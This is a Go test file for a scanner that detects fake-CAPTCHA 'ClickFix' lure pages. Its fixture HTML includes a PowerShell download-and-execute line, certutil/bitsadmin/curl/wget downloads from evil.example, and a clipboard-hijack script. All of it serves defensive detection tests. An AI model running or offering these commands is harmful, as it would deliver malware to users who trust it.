package extract

import (
	"context"
	"testing"

	"github.com/nao1215/clickgrab/internal/model"
)

const lurePage = `<html><head><title>Verify</title></head><body>
<div class="box">
<h1>Verify you are human</h1>
<p>I am not a robot - reCAPTCHA Verification ID: 7741</p>
<p>Press Win + R and paste the code, then press Enter.</p>
<p>powershell -w hidden -c iwr https://evil.example/a.ps1 | iex</p>
<p>Backup host 185.234.72.19</p>
</div>
</body></html>`

func contains(list []string, want string) bool {
	for _, v := range list {
		if v == want {
			return true
		}
	}
	return false
}

func TestIndicatorScanner(t *testing.T) {
	t.Parallel()

	in := inputFromHTML(t, lurePage)
	site := model.NewAnalyzedSite(in.Page)
	if err := NewIndicatorScanner(WithReadability(false)).Extract(context.Background(), in, site); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	ind := site.Indicators

	if !contains(ind.URLs, "https://evil.example/a.ps1") {
		t.Errorf("URL not found in %v", ind.URLs)
	}
	if !contains(ind.IPAddresses, "185.234.72.19") {
		t.Errorf("IP not found in %v", ind.IPAddresses)
	}
	if !contains(ind.PowerShell, "powershell -w hidden -c iwr https://evil.example/a.ps1 | iex") {
		t.Errorf("PowerShell command not found in %v", ind.PowerShell)
	}
	if len(ind.Downloads) == 0 || ind.Downloads[0].URL != "https://evil.example/a.ps1" {
		t.Errorf("unexpected downloads %+v", ind.Downloads)
	}
	if !contains(ind.Lures, "I am not a robot") {
		t.Errorf("lure not found in %v", ind.Lures)
	}
	if !contains(ind.Lures, "Press Win + R") {
		t.Errorf("keyboard lure not found in %v", ind.Lures)
	}
	if site.Indicators.PowerShellCount() != len(ind.PowerShell) {
		t.Errorf("PowerShellCount mismatch")
	}

	hijack := inputFromHTML(t, `<html><body oncopy="return false">
<p>certutil -urlcache -split -f https://evil.example/a.exe a.exe</p>
<p>bitsadmin /transfer job https://evil.example/b.exe C:\b.exe</p>
<p>curl -s https://evil.example/c.sh -o /tmp/c.sh</p>
<p>wget https://evil.example/d -O /tmp/d</p>
<p>wmic process call create calc.exe</p>
<p>net use Z: \\evil.example\share</p>
<p>Session ID: 99812 JS:4412 TOKEN: AbC123xyz</p>
<script>
document.addEventListener('copy', function (e) {
  e.clipboardData.setData('text/plain', 'cmd /c calc');
});
function guard(e) { e.preventDefault(); stash('copy'); }
</script>
</body></html>`)
	hijackSite := model.NewAnalyzedSite(hijack.Page)
	if err := NewIndicatorScanner(WithReadability(false)).Extract(context.Background(), hijack, hijackSite); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}

	testCases := []struct {
		name     string
		list     []string
		expected string
	}{
		{"cmd /c", hijackSite.Indicators.Commands, "cmd /c calc"},
		{"certutil", hijackSite.Indicators.Commands, "certutil -urlcache -split -f https://evil.example/a.exe a.exe"},
		{"bitsadmin", hijackSite.Indicators.Commands, `bitsadmin /transfer job https://evil.example/b.exe C:\b.exe`},
		{"curl -o", hijackSite.Indicators.Commands, "curl -s https://evil.example/c.sh -o /tmp/c.sh"},
		{"wget -O", hijackSite.Indicators.Commands, "wget https://evil.example/d -O /tmp/d"},
		{"wmic process", hijackSite.Indicators.Commands, "wmic process call create calc.exe"},
		{"net use", hijackSite.Indicators.Commands, `net use Z: \\evil.example\share`},
		{"copy listener", hijackSite.Indicators.ClipboardHijack, "addEventListener('copy'"},
		{"oncopy attribute", hijackSite.Indicators.ClipboardHijack, "oncopy="},
		{"prevented copy", hijackSite.Indicators.ClipboardHijack, "preventDefault(); stash('copy"},
		{"JS marker", hijackSite.Indicators.Lures, "JS:4412"},
		{"token marker", hijackSite.Indicators.Lures, "TOKEN: AbC123xyz"},
		{"session id", hijackSite.Indicators.Lures, "Session ID: 99812"},
	}
	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if !contains(tc.list, tc.expected) {
				t.Errorf("%q not found in %v", tc.expected, tc.list)
			}
		})
	}
}

func TestIndicatorScannerReadability(t *testing.T) {
	t.Parallel()

	in := inputFromHTML(t, lurePage)
	site := model.NewAnalyzedSite(in.Page)
	if err := NewIndicatorScanner().Extract(context.Background(), in, site); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !contains(site.Indicators.Lures, "I am not a robot") {
		t.Errorf("lure not found in %v", site.Indicators.Lures)
	}
	seen := make(map[string]bool)
	for _, l := range site.Indicators.Lures {
		if seen[l] {
			t.Errorf("duplicate lure %q", l)
		}
		seen[l] = true
	}
}

func TestIndicatorScannerCleanPage(t *testing.T) {
	t.Parallel()

	in := inputFromHTML(t, `<html><body><p>Welcome to our bakery.</p></body></html>`)
	site := model.NewAnalyzedSite(in.Page)
	if err := NewIndicatorScanner(WithReadability(false)).Extract(context.Background(), in, site); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	ind := site.Indicators
	if len(ind.URLs)+len(ind.IPAddresses)+len(ind.PowerShell)+len(ind.Downloads)+len(ind.Commands)+len(ind.ClipboardHijack)+len(ind.Lures) != 0 {
		t.Errorf("expected no indicators, got %+v", ind)
	}
}

func TestTruncate(t *testing.T) {
	t.Parallel()

	if got := truncate("héllo", 2); got != "h" {
		t.Errorf("truncate split a rune: %q", got)
	}
	if got := truncate("abc", 10); got != "abc" {
		t.Errorf("unexpected %q", got)
	}
}
